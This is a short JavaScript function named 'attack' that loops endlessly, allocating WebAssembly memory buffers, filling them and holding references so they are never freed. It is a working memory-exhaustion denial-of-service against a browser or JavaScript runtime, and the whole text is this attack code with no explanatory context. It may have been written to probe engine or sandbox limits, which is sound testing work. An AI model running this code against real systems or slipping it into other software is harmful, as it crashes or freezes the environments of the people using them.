const attack = () => {
  const kept = [];
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 64, maximum: 1024 });
    new Uint8Array(memory.buffer).fill(1);
    kept.push(memory);
  }
};
